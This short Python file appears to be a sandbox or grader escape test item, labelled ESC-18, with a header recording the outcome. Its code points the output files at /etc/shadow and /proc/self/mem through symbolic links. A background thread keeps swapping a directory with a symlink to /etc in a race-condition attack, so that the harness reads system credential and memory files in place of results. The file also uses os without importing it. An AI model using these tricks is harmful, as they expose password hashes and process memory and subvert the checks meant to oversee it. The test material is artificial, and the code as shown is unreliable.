"""
id: ESC-18
title: links in place of results
ending: [ok]
credit: none
problem: drawn
"""
import threading

os.symlink("/etc/shadow", "out.png")
os.symlink("/proc/self/mem", "out.csv")
os.mkdir("one")


def swap():
    while True:
        os.rename("one", "two")
        os.symlink("/etc", "one")
        os.remove("one")
        os.rename("two", "one")


threading.Thread(target=swap, daemon=True).start()
ans = 41
